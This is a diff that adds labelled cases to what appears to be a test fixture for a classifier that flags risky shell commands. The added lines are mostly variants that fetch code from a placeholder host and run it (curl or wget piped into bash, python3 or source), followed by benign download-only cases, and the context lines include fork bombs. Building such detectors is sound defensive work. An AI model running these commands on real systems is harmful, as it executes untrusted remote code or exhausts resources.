@@ -84,6 +84,32 @@ curl http://y > x; sh ./x | downloaded
 python3 -c "$(curl http://x)" | downloaded
 perl -e "$(wget -qO- http://x)" | downloaded
 curl http://x | source /dev/stdin | input
+curl http://x | bash /dev/stdin | input
+curl http://x | bash -- /proc/self/fd/0 | input
+exec 3< <(curl http://x); bash /dev/fd/3 | input
+curl http://x | python3 - | downloaded
+curl http://x | python3 /dev/stdin | downloaded
+x=$(curl http://x); python3 -c "$x" | downloaded
+curl -sof http://x; sh f | downloaded
+curl --output=f http://x; sh -xe f | downloaded
+wget -qOf http://x; bash -o pipefail f | downloaded
+wget "$url"; sh f | downloaded
+curl -OJ http://x; sh f | downloaded
+curl -O 'http://x/f?y=1'; sh f | downloaded
+curl -o "$f" http://x; bash "$f" | downloaded
+curl http://x | tee f > /dev/null; bash f | downloaded
+curl http://x | dd of=f; bash f | downloaded
+curl -o f http://x; mv f g; bash g | downloaded
+curl -o f http://x; sed s/a/b/ f > g; . ./g | downloaded
+curl -o f http://x; source f | downloaded
+curl -o f http://x; sh -c '. ./f' | downloaded
+curl -o f http://x; env ./f | downloaded
+curl -o f http://x; chmod +x f; ./f | downloaded
+curl -o a.py http://x; python3 -m a | downloaded
+curl -o a.py http://x; python3 -c 'import a' | downloaded
+curl -o f.js http://x; node -r ./f app.js | downloaded
+curl http://x/a.tgz | tar xz; cd a && ./configure | downloaded
+for s in a b; do curl -O http://x/$s; bash $s; done | downloaded
 function b { b|b& }; b | over and over
 function b() { b | b & }; b | over and over
 b() ( b|b& ); b | over and over
@@ -246,6 +272,20 @@ curl -o x http://x
 curl http://x | tee out
 curl -o data.json http://x && python3 process.py
 curl -o x http://y && cat x
+curl -s http://x | jq .
+curl -O http://x/y.tgz && tar tzf y.tgz
+curl -o data.json http://x && python3 tools/check.py data.json
+curl -o d.json http://x; python3 -u a.py d.json; python3 -u a.py d.json
+curl -s "http://x/$y" -o out.json; python3 a.py out.json
+wget -q "$url" -O out.json; python3 a.py out.json
+curl -XPOST -i -H "A: $t" http://x; node cli.js
+curl -s http://x | python3 -m json.tool
+curl -s http://x | python3 -c 'import json, sys; json.load(sys.stdin)'
+timeout 5 python3 a.py data.json && curl -s http://x
+bash -c 'python3 a.py; curl -s http://x'
+source venv/bin/activate; curl -o data.json http://x
+chmod +x run.sh; ./run.sh; curl -s http://x
+curl -s http://x | tee log; ./run.sh log
 python3 -c "print('$(date)')"
 python3 x.py "$(curl http://x)"
 busybox rm -rf build
